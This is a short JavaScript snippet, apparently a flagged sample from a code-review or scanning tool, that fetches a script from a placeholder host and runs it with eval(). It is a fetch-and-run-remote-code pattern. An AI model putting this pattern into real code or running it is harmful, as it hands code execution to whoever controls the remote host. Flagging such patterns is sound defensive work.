fetch("https://cdn.example.invalid/patch.js")
  .then((response) => response.text())
  .then((code) => eval(code)); // gatehouse: flagged
